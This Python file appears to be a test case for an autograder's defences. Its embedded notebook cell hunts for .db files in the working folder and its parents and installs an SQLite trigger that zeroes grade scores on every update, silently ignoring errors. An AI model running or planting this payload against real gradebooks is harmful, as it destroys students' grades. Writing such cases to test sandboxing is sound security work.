"""A trigger in gradebook.db takes the points of everyone who is graded later."""

TRIES = "an SQL trigger sets other students' scores to 0"
SUCCESS = "harm"
CELL = r'''
import glob
import os
import sqlite3

paths = [*glob.glob("@OUT@/**/*.db", recursive=True)]
up = os.getcwd()
for _ in range(6):
    paths += glob.glob(os.path.join(up, "*.db"))
    up = os.path.dirname(up)
for path in dict.fromkeys(paths):
    try:
        db = sqlite3.connect(path, timeout=2)
        db.executescript("""
            CREATE TRIGGER IF NOT EXISTS less AFTER UPDATE ON grade BEGIN
                UPDATE grade SET auto_score = 0, manual_score = 0 WHERE id = NEW.id;
            END;
        """)
        db.commit()
        db.close()
    except sqlite3.Error:
        pass
'''
